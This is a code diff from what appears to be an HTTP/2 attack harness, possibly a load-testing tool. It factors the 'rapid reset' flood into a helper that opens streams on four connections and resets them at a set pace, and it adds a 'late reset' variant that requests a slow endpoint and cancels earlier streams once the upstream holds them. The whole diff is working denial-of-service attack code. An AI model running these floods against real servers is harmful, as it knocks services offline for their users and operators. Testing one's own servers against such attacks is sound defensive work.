@@ -129,26 +129,41 @@ interface Windows {
 
 const MIB = 2 ** 20;
 
+/** Four connections on which `act` is called so often in a second each, with the next stream's id. */
+function resetStreams(attacker: Attacker, perSecond: number, act: (socket: TLSSocket, id: number) => void): () => void {
+	const streams = new Map<TLSSocket, number>();
+	const stop = attacker.keep(4, 20, async () => {
+		const socket = await attacker.connectH2();
+		if (socket !== undefined) streams.set(socket, 1);
+		socket?.once('close', () => streams.delete(socket));
+		return socket;
+	});
+	const stopResets = pace(perSecond, () => {
+		for (const [socket, id] of streams) {
+			act(socket, id);
+			streams.set(socket, id + 2);
+		}
+	});
+	return both(stop, stopResets);
+}
+
 export const ATTACKS: readonly Attack[] = [
 	{
 		name: 'rapid reset',
 		rate: '2 000 streams/s opened and reset',
-		start: (attacker) => {
-			const streams = new Map<TLSSocket, number>();
-			const stop = attacker.keep(4, 20, async () => {
-				const socket = await attacker.connectH2();
-				if (socket !== undefined) streams.set(socket, 1);
-				socket?.once('close', () => streams.delete(socket));
-				return socket;
-			});
-			const stopResets = pace(500, () => {
-				for (const [socket, id] of streams) {
-					socket.write(Buffer.concat([request(id, attacker.token(id)), rstStreamFrame(id)]));
-					streams.set(socket, id + 2);
-				}
-			});
-			return both(stop, stopResets);
-		},
+		start: (attacker) =>
+			resetStreams(attacker, 500, (socket, id) => {
+				socket.write(Buffer.concat([request(id, attacker.token(id)), rstStreamFrame(id)]));
+			}),
+	},
+	{
+		name: 'late reset',
+		rate: '500 streams/s opened, and reset when the upstream has them',
+		start: (attacker) =>
+			resetStreams(attacker, 125, (socket, id) => {
+				socket.write(request(id, attacker.token(id), '/slow'));
+				if (id > 2) socket.write(rstStreamFrame(id - 2));
+			}),
 	},
 	{
 		name: 'slow heads',
